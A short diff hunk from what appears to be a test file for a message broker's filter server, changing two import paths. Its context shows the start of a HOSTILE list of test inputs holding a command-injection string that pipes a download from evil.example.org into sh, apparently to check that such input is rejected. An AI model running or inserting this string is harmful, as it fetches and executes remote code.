@@ -25,8 +25,8 @@ from trocket.filtersrv.config import read_filtersrv_config
 from trocket.remoting.response_codes import ResponseCode
 from trocket.store.config import MessageStoreConfig
 
-from ..embedded import embedded_broker
-from ..test_filter_server_keeper import FakeChild
+from ...kit import embedded_broker
+from ..filter_servers.test_filter_server_keeper import FakeChild
 
 HOSTILE = [
     "-c $@|sh . echo curl evil.example.org|sh;",
